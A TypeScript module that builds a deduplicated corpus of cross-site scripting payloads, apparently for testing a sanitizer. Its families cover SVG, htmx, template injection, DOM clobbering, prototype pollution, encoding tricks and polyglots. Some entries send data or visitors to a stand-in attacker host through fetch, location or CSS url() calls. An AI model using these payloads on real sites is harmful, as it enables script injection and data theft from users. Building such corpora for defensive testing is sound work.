import {
  attributeEnds,
  ends,
  entityUrls,
  evil,
  handlers,
  hostileUrls,
  img,
  leading,
  mutations,
  parted,
  run,
  scripts,
} from "./xss-markup.ts";

/** A string that runs code or leads to a foreign site when parsed as markup, address or template. */
export type Payload = { family: string; text: string };

const styles = parted(`
<p style="background:url(${evil}/b.png)">x</p>¦<p style="position:fixed;inset:0;z-index:9999">x</p>¦
<p style="x:expression(${run});behavior:url(${evil}/x.htc)">x</p>¦<style>*{background:url(${evil}/b.png)}</style>¦
<style>input[value^="+7"]{background:url(${evil}/?7)}</style>¦
<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${run}>x</p>¦
<svg><style>{-o-link-source:"javascript:${run}"}</style></svg>¦}</style>${img}
`);
const svg = parted(`
<svg><a href=javascript:${run}><text y=9>x</text></a></svg>¦
<svg><a xlink:href=javascript:${run}><text y=9>x</text></a></svg>¦
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:${run}/></svg>#x" /></svg>¦
<svg><use href=${evil}/x.svg#x /></svg>¦
<svg><a id=l><animate attributeName=href values=javascript:${run} /><text y=9>x</text></a></svg>¦
<svg><set attributeName=onmouseover to=${run} /></svg>¦
<svg><set attributeName=href to=javascript:${run} onbegin=${run} /></svg>¦
<svg><animate onbegin=${run} attributeName=x dur=1s />¦
<svg><image href=${evil}/x.png /><feImage href=${evil}/x.png /></svg>¦
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler></svg>¦
<math href=javascript:${run}>x</math>¦
<math><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>
`);
const htmx = parted(`
hx-get=${evil}/¦hx-post=${evil}/ hx-trigger=load¦data-hx-get=${evil}/¦hx-get=/fragments/search?q=x hx-trigger=load¦
hx-on:click=${run}¦hx-on::load=${run}¦hx-on:htmx:after:swap=${run}¦data-hx-on-click=${run}¦hx-on=load:${run}¦
hx-get=/ hx-trigger=load hx-vals='js:{x:${run}}'¦hx-get=/ hx-trigger='load[${run}]'¦hx-get=/ hx-headers='js:{x:${run}}'¦
hx-get=/ hx-trigger=load hx-confirm='js:${run}'¦hx-action=${evil}/ hx-method=post¦hx-ext=x hx-boost=true
`).map((attributes) => `<div ${attributes}>x</div>`);
const htmxTags = parted(`
<hx-partial hx-target=body hx-swap=beforeend>${img}</hx-partial>¦
<template hx type=partial hx-target=body>${img}</template>¦<div id=dialogs hx-swap-oob=true>${img}</div>¦
<title>hijacked</title><div id=results hx-swap-oob=innerHTML>${img}</div>¦
</hx-partial><hx-partial hx-target=html hx-swap=outerHTML>${img}¦<dialog data-modal=0 open>${img}</dialog>¦
<div data-island=MobileMenu data-props='{"main":[{"href":"javascript:${run}","text":"x"}]}'></div>¦
<x-0123456789abcdef01234567>0</x-0123456789abcdef01234567>${img}
`);
const templates = parted(`
{{constructor.constructor('${run}')()}}¦{{$on.constructor('${run}')()}}¦{{_c.constructor('${run}')()}}¦\${${run}}¦
<%= ${run} %>¦#{${run}}¦{%raw%}${img}{%endraw%}¦[[${run}]]¦<x v-html="'${img}'" @click=${run}>x</x>¦
<div ng-app ng-csp><p ng-focus=${run} ng-init="x=${run}">{{x}}</p></div>¦<x x-data x-init=${run} :onclick=${run}>x</x>¦
$&$\`$'$1${img}¦{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}
`);
const names = "document location forms body head cookie trustedTypes getElementById attributes firstChild"
  .split(" ")
  .map((name) => `<form id=${name} name=${name}><input id=${name} name=${name} value=${evil}></form>`);
const clobbers = [
  ...names,
  `<a id=assets href=${evil}/><a id=assets name=script href=${evil}/x.js>`,
  `<iframe name=htmx srcdoc="<a id=config href=${evil}/>"></iframe>`,
  `<div id=main tabindex=-1><div id=results><div id=filter>`,
  `__proto__[innerHTML]=${img}`,
  `constructor[prototype][srcdoc]=${img}`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
];
const letters = parted(`
<scr\u0000ipt>${run}</scr\u0000ipt>¦<img\u0000src=x onerror=${run}>¦<img src=x\u0000 on\u0000error=${run}>¦\u0000${img}¦
<img\u000csrc=x\u000conerror=${run}>¦<img/src=x/onerror=${run}>¦<img\u000bsrc=x onerror\u000b=${run}>¦\ufeff${img}¦
\uff1cimg src=x onerror=${run}\uff1e¦\u02c2script\u02c3${run}\u02c2/script\u02c3¦\u202e${img}¦
%3Cimg%20src%3Dx%20onerror%3D${run}%3E¦%c0%bcscript%c0%be${run}%c0%bc/script%c0%be¦+ADw-script+AD4-${run}+ADw-/script+AD4-¦
\\u003cimg src=x onerror=${run}\\u003e¦\\x3cscript\\x3e${run}¦<ımg src=x onerror=${run}>¦<ſcript>${run}</ſcript>¦
\r\n\r\n${img}¦<img src=x onerror=alert\`1\`>
`);
const polyglots = parted(`
jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e¦
'">><marquee>${img}</marquee></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>¦
" onclick=${run}//<button ' onclick=${run}//> */ ${run}//¦'-${run}-'"-${run}-"</script><svg onload=${run}>¦
<svg/onload=document.title='XSS'><svg/onload=location='${evil}/'><svg/onload=fetch('${evil}/')><svg/onload=print()>
`);

const families: Record<string, readonly string[]> = {
  script: scripts,
  handler: handlers.map((handler) => `<${handler}=${run}>`),
  breakout: ends.map((end) => end + img),
  attribute: attributeEnds.map((end) => `${end} onfocus=${run} autofocus tabindex=1 x=${end}`),
  address: hostileUrls,
  link: [...hostileUrls, ...entityUrls].map((url) => `<a href="${url.replaceAll('"', "&quot;")}">x</a>`),
  mutation: mutations,
  "leading away": leading,
  style: styles,
  "svg and math": svg,
  htmx: [...htmx, ...htmxTags],
  template: templates,
  clobbering: clobbers,
  letters,
  polyglot: polyglots,
};

/** The corpus, without duplicates. */
export const xssPayloads: readonly Payload[] = Object.entries(families).flatMap(([family, texts]) =>
  texts.map((text) => ({ family, text })),
);
